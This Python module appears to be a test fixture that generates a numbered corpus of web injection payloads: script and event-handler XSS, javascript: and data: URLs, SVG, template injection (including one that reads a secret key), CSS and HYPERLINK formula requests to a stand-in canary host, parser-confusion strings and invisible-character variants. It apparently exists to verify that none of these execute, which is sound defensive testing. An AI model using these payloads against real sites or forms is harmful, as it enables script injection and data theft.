"""P13: words that a browser would carry out if a page let it, by families, put together from parts.

Each sets `hit` on the window, or asks a host of CANARY or an `x…` beside the page for something; none of that may ever
happen. Every word has its own number in what it does, so that one that is carried out among hundreds names itself.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product, zip_longest

CANARY = "canary.example"
FIRST = 1001  # all numbers have as many digits, so that no word is the beginning of another
DOES = ("hit=№", "window['hit']=№", f"fetch('//№.{CANARY}/f')", f"new Image().src='//№.{CANARY}/i'")
IMG = "<img src=x№ onerror=hit=№>"
OPENINGS = (
    ("<script>", "</script>"),
    ("<ScRiPt >", "</sCrIpT >"),
    ("<script/x>", "</script/y>"),
    ("<<script>", "//<</script>"),
    ("<script type=module>", "</script>"),
    ("<x><script>", "</script></x>"),
)
MOMENTS = (
    ("img src=x№", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
    ("details open", "ontoggle"), ("iframe", "onload"), ("style", "onload"), ("video src=x№", "onerror"),
    ("a tabindex=1 autofocus", "onfocus"), ("select autofocus", "onfocus"), ("object data=x№", "onerror"),
    ("link rel=stylesheet href=x№", "onerror"), ("marquee", "onstart"), ("audio src=x№", "onerror"),
)  # fmt: skip
QUOTES = ("", "'", '"')
CLOSED = ("textarea", "title", "script", "style", "select", "option", "template", "noscript", "table", "bdi", "button")
LEADS = (
    "a href={}",
    "iframe src={}",
    "form action={}",
    "object data={}",
    "embed src={}",
    "base href={}",
    "area href={}",
    "link rel=stylesheet href={}",
    "script src={}",
    "img src={}",
    "img srcset={}",
    "video poster={}",
    "input type=image src={}",
    "body background={}",
    "link rel=prefetch href={}",
    "meta http-equiv=refresh content=0;url={}",
)
SCHEMES = (
    "javascript:hit=№",
    "jAvAsCrIpT:hit=№",
    "java&#9;script:hit=№",
    "data:text/html,<script>hit=№</script>",
    f"//№.{CANARY}/u",
    f"https://№.{CANARY}/u",
)
BRACES = (
    "{{%s}}",
    "{{constructor.constructor('%s')()}}",
    "${%s}",
    "<%%= %s %%>",
    "[[%s]]",
    "#{%s}",
    "{%% %s %%}",
    "${{%s}}",
    "*{%s}",
    "@{%s}",
)
ATTRIBUTES = ('x-data="%s"', 'x-init="%s"', 'hx-on:load="%s"', 'data-hx-on="load:%s"', 'x-html="%s"')
TAKEN = f'hx-get="//№.{CANARY}/h" hx-trigger="load"'
CSS = ("@import '//№.{0}/c'", "body{{background:url(//№.{0}/b)}}", "@font-face{{font-family:a;src:url(//№.{0}/t)}}")
SPELLED = (
    "&lt;%s&gt;",
    "&#60;%s&#62;",
    "&#x3c;%s&#x3e;",
    "&amp;lt;%s&amp;gt;",
    "%%3C%s%%3E",
    "\\u003c%s\\u003e",
    "\\x3c%s\\x3e",
    "+ADw-%s+AD4-",
    "＜%s＞",
    "‹%s›",
)
TURNED = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='-->{IMG}'>",
    f"<noscript><p title='</noscript>{IMG}'>",
    f"<svg></p><style><a id='</style>{IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<svg><style>&lt;/style&gt;{IMG}</style>", f"<table><td>{IMG}</table><tr>{IMG}", f"<xmp><p title='</xmp>{IMG}'>",
    f"<svg><desc><noembed>{IMG}</noembed></desc>", f"<select><template>{IMG}</template>", f"<p/{IMG}</p>",
)  # fmt: skip


def scripts() -> Iterator[str]:
    for (begin, end), does in product(OPENINGS, DOES):
        yield f"{begin}{does}{end}"


def handlers() -> Iterator[str]:
    for quote, (tag, moment) in product(QUOTES, MOMENTS):
        yield f"<{tag} {moment}={quote}hit=№{quote}>"


def drawings() -> Iterator[str]:
    for does in DOES:
        yield f"<svg><script>{does}</script></svg>"
        yield f'<svg><animate onbegin="{does}" attributeName=x dur=1s>'
        yield f'<svg><set onbegin="{does}" attributeName=x to=1>'
    for asked in ("use", "image", "feImage", "script"):
        yield f"<svg><{asked} href=//№.{CANARY}/d.svg#x></svg>"
        yield f"<svg><{asked} xlink:href=//№.{CANARY}/d.svg#x></svg>"


def addresses() -> Iterator[str]:
    for scheme, lead in product(SCHEMES, LEADS):
        yield f"<{lead.format(scheme)}>"


def templates() -> Iterator[str]:
    for shape, does in product(BRACES, ("№*7", "hit=№")):
        yield shape % does
    for attribute in ATTRIBUTES:
        yield f"<b {attribute % 'hit=№'}>"
        yield f'"><b {attribute % "hit=№"}>'
    yield from (f"<b {TAKEN}>", f"<b data-{TAKEN}>", f"' {TAKEN} x='", "{{ settings.SECRET_KEY }}", "{% debug %}")


def styles() -> Iterator[str]:
    for rule in CSS:
        yield f"<style>{rule.format(CANARY)}</style>"
        yield f"</style><style>{rule.format(CANARY)}"
    for quote in QUOTES:
        yield f"<p style={quote}background:url(//№.{CANARY}/p){quote}>"
        yield f"{quote} style=background:url(//№.{CANARY}/p) {quote}"


def breakers() -> Iterator[str]:
    for quote in ("'", '"', "`", "\\'", '\\"', "'\"", "-->", "--!>", "]]>", "*/", "?>", "%>"):
        yield f"{quote}>{IMG}"
        yield f"{quote} autofocus onfocus=hit=№ x={quote}"
    for name in CLOSED:
        yield f"</{name}>{IMG}"
        yield f"</{name} ><script>hit=№</script>"
    yield from (
        f"<!-->{IMG}",
        f"<!--{IMG}",
        f"<![CDATA[{IMG}]]>",
        f"<!{IMG}>",
        f"<?{IMG}?>",
        f"<{IMG}",
        "<img src=x№ onerror=hit=№",
    )


def ends_of_data() -> Iterator[str]:
    for end in ('"};', "'};", '"]};', "');", '");', "\\"):
        yield f"{end}hit=№;//"
        yield f"{end}</script><script>hit=№//"


def spelled() -> Iterator[str]:
    for shape in SPELLED:
        yield shape % "img src=x№ onerror=hit=№"
        yield shape % "script" + "hit=№" + shape % "/script"


def papers() -> Iterator[str]:
    for sign in "=+-@＝":
        yield f'{sign}HYPERLINK("//№.{CANARY}/x","{sign}1")'
    yield from (
        f"![x](//№.{CANARY}/m)",
        "[x](javascript:hit=№)",
        f"<//№.{CANARY}>",
        f"[[{IMG}]]",
        f"`{IMG}`",
        "\\<b\\>",
    )


def unseen() -> Iterator[str]:
    """Words with signs that nobody sees; the door refuses these, so they are put where no door was."""
    for sign in ("\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00ad", "\u2028"):
        yield f"{sign}{IMG}"
        yield f"<scr{sign}ipt>hit=№</scr{sign}ipt>"


FAMILIES = (
    scripts,
    handlers,
    drawings,
    addresses,
    templates,
    styles,
    breakers,
    ends_of_data,
    lambda: iter(TURNED),
    spelled,
    papers,
)


def all_words() -> list[str]:
    """Return every word with its number, one of each family in turn."""
    rows = zip_longest(*(family() for family in FAMILIES))
    found = dict.fromkeys(word for row in rows for word in row if word is not None)
    return [numbered(word, FIRST + place) for place, word in enumerate(found)]


def unseen_words() -> list[str]:
    """Return those with signs that nobody sees, with the numbers that follow."""
    first = FIRST + len(all_words())
    return [numbered(word, first + place) for place, word in enumerate(unseen())]


def numbered(word: str, number: int) -> str:
    return word.replace("№", str(number))
